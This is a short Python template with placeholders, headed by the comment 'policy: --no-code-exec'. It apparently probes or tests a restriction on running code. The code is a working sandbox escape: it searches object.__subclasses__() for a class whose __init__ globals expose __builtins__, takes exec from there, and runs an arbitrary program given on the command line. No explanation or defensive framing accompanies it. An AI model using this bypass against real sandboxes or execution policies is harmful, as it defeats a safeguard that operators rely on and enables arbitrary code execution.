# policy: --no-code-exec
# evidence: printed {answer}
# args: '{program}'

import sys

for kind in object.__subclasses__():
    scope = getattr(getattr(kind, "__init__", None), "__globals__", None)
    if scope and "__builtins__" in scope:
        names = scope["__builtins__"]
        (names if isinstance(names, dict) else vars(names))["exec"](sys.argv[1])
        break
